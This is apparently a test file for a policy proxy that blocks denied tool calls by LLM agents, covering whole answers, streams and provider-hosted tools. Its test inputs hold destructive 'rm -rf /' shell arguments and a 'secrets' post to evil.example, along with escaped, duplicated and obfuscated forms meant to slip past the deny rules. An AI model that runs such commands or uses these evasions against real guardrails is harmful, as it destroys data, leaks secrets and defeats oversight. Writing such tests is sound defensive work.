import type Anthropic from '@anthropic-ai/sdk';
import { APIError as AnthropicError } from '@anthropic-ai/sdk';
import { APIError } from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { UsageEventMessage } from '../../core/events/messages.ts';
import { eventually } from '../harness/control-plane.ts';
import { metricValue } from '../proxy-net/harness.ts';
import { startProxyRig, type ProxyRig } from './harness.ts';
import { anthropicClient, openAiClient } from './sdk-options.ts';
import { failure } from '../harness/failure.ts';
import { terminatedMidStream } from './terminated-mid-stream.ts';

let rig: ProxyRig;

beforeAll(async () => {
  rig = await startProxyRig();
  await rig.addPolicy({ name: 'no-deletes', rules: [{ action: 'tool:delete_repo', effect: 'deny' }], priority: 400 });
});
afterAll(async () => {
  await rig.close();
});

function toolEvents(execution: string): Array<{ tool: string; blocked: boolean; source: string }> {
  return rig.cp.published
    .filter(
      (m) =>
        m.subject === 'svc.acme.events.tool.call' && (m.data as UsageEventMessage).payload.execution_id === execution,
    )
    .map((m) => (m.data as UsageEventMessage).payload as { tool: string; blocked: boolean; source: string });
}

/** What an Anthropic stream asking to delete fails with; one that reaches its end fails the test. */
const streamedToItsEnd = (client: Anthropic) =>
  failure(async () => {
    const stream = await client.messages.create({
      model: 'claude-3-5-haiku-20241022',
      max_tokens: 20,
      stream: true,
      messages: [{ role: 'user', content: 'delete' }],
    });
    for await (const event of stream) if (event.type === 'message_stop') throw new Error('the stream reached its end');
  });

describe('tool calls a model asks for', () => {
  it('records an allowed tool call and relays the answer', async () => {
    const answer = await openAiClient(rig.agent, {
      'X-Svc-Execution-Id': 'exec-tool-ok',
      'x-sim-tool-call': 'search',
    }).chat.completions.create({
      model: 'gpt-4o-mini',
      max_tokens: 5,
      messages: [{ role: 'user', content: 'find it' }],
      tools: [{ type: 'function', function: { name: 'search', parameters: { type: 'object' } } }],
    });
    expect(answer.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'search' } });
    const events = await eventually(
      () => toolEvents('exec-tool-ok'),
      (list) => list.length === 1,
    );
    expect(events[0]).toMatchObject({ tool: 'search', blocked: false, source: 'model' });
  });

  it('blocks a denied tool call in a whole answer with 403 SVC-POL-2001, still recording it', async () => {
    const error = await failure(() =>
      openAiClient(rig.agent, {
        'X-Svc-Execution-Id': 'exec-tool-denied',
        'x-sim-tool-call': 'delete_repo',
      }).chat.completions.create({
        model: 'gpt-4o-mini',
        max_tokens: 5,
        messages: [{ role: 'user', content: 'delete it' }],
      }),
    );
    expect(error).toBeInstanceOf(APIError);
    expect((error as APIError).status).toBe(403);
    expect((error as APIError).code).toBe('SVC-POL-2001');
    const events = await eventually(
      () => toolEvents('exec-tool-denied'),
      (list) => list.length === 1,
    );
    expect(events[0]).toMatchObject({ tool: 'delete_repo', blocked: true });
  });

  it('judges the arguments as the tool reads them: a JSON escape hides no text and no host', async () => {
    await rig.addPolicy({
      name: 'no-wipes-no-evil',
      priority: 450,
      rules: [
        {
          action: 'tool:run_shell',
          effect: 'deny',
          conditions: [{ field: 'tool_args', operator: 'matches', value: 'rm\\s+-rf' }],
        },
        {
          action: 'tool:http_post',
          effect: 'deny',
          conditions: [{ field: 'tool_hosts', operator: 'in', value: ['evil.example'] }],
        },
      ],
    });
    for (const [tool, args] of [
      ['run_shell', '{"cmd":"rm \\u002drf /"}'],
      ['http_post', '{"url":"https:\\/\\/evil.example\\/c","body":"secrets"}'],
    ] as const) {
      const error = await failure(() =>
        openAiClient(rig.agent, {
          'X-Svc-Execution-Id': `exec-escaped-${tool}`,
          'x-sim-tool-call': tool,
          'x-sim-tool-args': args,
        }).chat.completions.create({
          model: 'gpt-4o-mini',
          max_tokens: 5,
          messages: [{ role: 'user', content: 'go' }],
        }),
      );
      expect(error, args).toBeInstanceOf(APIError);
      expect((error as APIError).code, args).toBe('SVC-POL-2001');
    }
  });

  it('refuses arguments it cannot read as the tool does: a key given twice, or nesting too deep to write again', async () => {
    await rig.addPolicy({
      name: 'no-wipes',
      priority: 455,
      rules: [
        {
          action: 'tool:run_shell',
          effect: 'deny',
          conditions: [{ field: 'tool_args', operator: 'matches', value: 'rm\\s+-rf' }],
        },
      ],
    });
    const deep = `${'['.repeat(6000)}${']'.repeat(6000)}`;
    for (const [i, args] of [
      '{"cmd":"rm -rf /","cmd":"ls"}',
      '{"cmd":"rm -rf /","c\\u006dd":"ls"}',
      `{"cmd":"rm \\u002drf /","pad":${deep}}`,
    ].entries()) {
      const error = await failure(() =>
        openAiClient(rig.agent, {
          'X-Svc-Execution-Id': `exec-unreadable-${i}`,
          'x-sim-tool-call': 'run_shell',
          'x-sim-tool-args': args,
        }).chat.completions.create({
          model: 'gpt-4o-mini',
          max_tokens: 5,
          messages: [{ role: 'user', content: 'go' }],
        }),
      );
      expect(error, args.slice(0, 60)).toBeInstanceOf(APIError);
      expect((error as APIError).code, args.slice(0, 60)).toBe('SVC-SYS-9002');
    }
  });

  it('reads every host a tool would reach: split by a newline, behind backslashes, after many allowed ones', async () => {
    await rig.addPolicy({
      name: 'fetch-docs-only',
      priority: 460,
      rules: [
        {
          action: 'tool:fetch_url',
          effect: 'allow',
          conditions: [{ field: 'tool_hosts', operator: 'in', value: ['docs.acme.example'] }],
        },
        { action: 'tool:fetch_url', effect: 'deny' },
      ],
    });
    const docs = 'https://docs.acme.example/guide';
    const call = (args: string, execution: string) =>
      openAiClient(rig.agent, {
        'X-Svc-Execution-Id': execution,
        'x-sim-tool-call': 'fetch_url',
        'x-sim-tool-args': args,
      }).chat.completions.create({ model: 'gpt-4o-mini', max_tokens: 5, messages: [{ role: 'user', content: 'go' }] });
    const walkArounds = [
      JSON.stringify({ url: 'ht\ntps://evil.example/x', ref: docs }),
      JSON.stringify({ url: 'https:\\\\evil.example/x', ref: docs }),
      JSON.stringify({ url: 'HTTPS:evil.example/x', ref: docs }),
      JSON.stringify({ refs: Array.from({ length: 20 }, (_, i) => `${docs}/${i}`), url: 'https://evil.example/x' }),
      JSON.stringify({ url: 'https://user@%65vil.example./x', ref: docs }),
    ];
    for (const [i, args] of walkArounds.entries()) {
      const error = await failure(() => call(args, `exec-hosts-${i}`));
      expect(error, args).toBeInstanceOf(APIError);
      expect((error as APIError).code, args).toBe('SVC-POL-2001');
    }
    const allowed = await call(JSON.stringify({ url: docs, also: 'https://DOCS.acme.example./faq' }), 'exec-hosts-ok');
    expect(allowed.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'fetch_url' } });
  });

  it('cuts an Anthropic stream whose tool_use block names a denied tool', async () => {
    const client = anthropicClient(rig.agent, {
      'X-Svc-Execution-Id': 'exec-tool-stream',
      'x-sim-tool-call': 'delete_repo',
    });
    const error = await streamedToItsEnd(client);
    expect(error).toBeInstanceOf(AnthropicError);
    expect((error as Error).message).toContain('SVC-POL-2001');
    expect(
      await metricValue(rig.proxy.registry, 'svc_proxy_cutoffs_total', { provider: 'anthropic', reason: 'policy' }),
    ).toBe(1);
  });

  it('blocks a denied custom tool call, whole or streamed, as it blocks a function call', async () => {
    const client = openAiClient(rig.agent, {
      'X-Svc-Execution-Id': 'exec-custom-tool',
      'x-sim-tool-call': 'delete_repo',
      'x-sim-tool-kind': 'custom',
    });
    const whole = await failure(() =>
      client.responses.create({ model: 'gpt-4o', input: 'delete', max_output_tokens: 5 }),
    );
    expect(whole).toBeInstanceOf(APIError);
    expect((whole as APIError).status).toBe(403);
    expect((whole as APIError).code).toBe('SVC-POL-2001');
    const streamed = await failure(async () => {
      const stream = await client.responses.create({
        model: 'gpt-4o',
        input: 'delete',
        max_output_tokens: 5,
        stream: true,
      });
      for await (const event of stream)
        if (event.type === 'response.completed') throw new Error('the stream reached its end');
    });
    expect((streamed as Error).message).toContain('SVC-POL-2001');
    const events = await eventually(
      () => toolEvents('exec-custom-tool'),
      (list) => list.length === 2,
    );
    expect(events.map((e) => [e.tool, e.blocked])).toEqual([
      ['delete_repo', true],
      ['delete_repo', true],
    ]);
  });

  it('blocks a denied tool the provider runs itself, as it blocks one the agent runs', async () => {
    const headers = {
      'X-Svc-Execution-Id': 'exec-hosted-tool',
      'x-sim-tool-call': 'delete_repo',
      'x-sim-tool-kind': 'hosted',
    };
    // OpenAI calling a remote MCP server's tool, Anthropic one of its server tools: the agent
    // receives neither the call nor its result.
    const responses = await failure(() =>
      openAiClient(rig.agent, headers).responses.create({ model: 'gpt-4o', input: 'delete', max_output_tokens: 5 }),
    );
    expect((responses as APIError).status).toBe(403);
    expect((responses as APIError).code).toBe('SVC-POL-2001');
    const messages = await streamedToItsEnd(anthropicClient(rig.agent, headers));
    expect(messages).toBeInstanceOf(AnthropicError);
    expect((messages as Error).message).toContain('SVC-POL-2001');
    const events = await eventually(
      () => toolEvents('exec-hosted-tool'),
      (list) => list.length === 2,
    );
    expect(events.map((e) => [e.tool, e.blocked])).toEqual([
      ['delete_repo', true],
      ['delete_repo', true],
    ]);
  });

  it('lets no part of a denied streamed tool call reach the agent, its name included', async () => {
    for (const [path, body, kind] of [
      [
        '/openai/v1/chat/completions',
        { model: 'gpt-4o-mini', max_tokens: 20, stream: true, messages: [{ role: 'user', content: 'delete' }] },
        'function',
      ],
      ['/openai/v1/responses', { model: 'gpt-4o', max_output_tokens: 20, stream: true, input: 'delete' }, 'custom'],
      ['/openai/v1/responses', { model: 'gpt-4o', max_output_tokens: 20, stream: true, input: 'delete' }, 'hosted'],
      [
        '/anthropic/v1/messages',
        {
          model: 'claude-3-5-haiku-20241022',
          max_tokens: 20,
          stream: true,
          messages: [{ role: 'user', content: 'x' }],
        },
        'function',
      ],
      [
        '/anthropic/v1/messages',
        {
          model: 'claude-3-5-haiku-20241022',
          max_tokens: 20,
          stream: true,
          messages: [{ role: 'user', content: 'x' }],
        },
        'hosted',
      ],
    ] as const) {
      const res = await fetch(`${rig.addresses.proxyUrl}${path}`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'x-sim-tool-call': 'delete_repo',
          'x-sim-tool-kind': kind,
          'x-api-key': 'k',
        },
        body: JSON.stringify(body),
      });
      const received = await res.text();
      expect(received, path).toContain('SVC-POL-2001');
      expect(received, path).not.toContain('"delete_repo"');
    }
  });
});

describe('an envelope terminated elsewhere', () => {
  it('cuts its in-flight stream and refuses its later calls with SVC-ENV-1003', async () => {
    const client = openAiClient(rig.agent, { 'X-Svc-Execution-Id': 'exec-terminated', 'x-sim-chunk-delay-ms': '30' });
    const { error, received } = await terminatedMidStream(rig, client, {
      model: 'gpt-4o-mini',
      max_tokens: 300,
      stream: true,
      messages: [{ role: 'user', content: 'talk' }],
    });
    expect((error as Error).message).toContain('SVC-ENV-1003');
    expect(received).toBeLessThan(300);

    const later = await failure(() =>
      client.chat.completions.create({
        model: 'gpt-4o-mini',
        max_tokens: 3,
        messages: [{ role: 'user', content: 'again' }],
      }),
    );
    expect((later as APIError).status).toBe(409);
    expect((later as APIError).code).toBe('SVC-ENV-1003');
  });
});
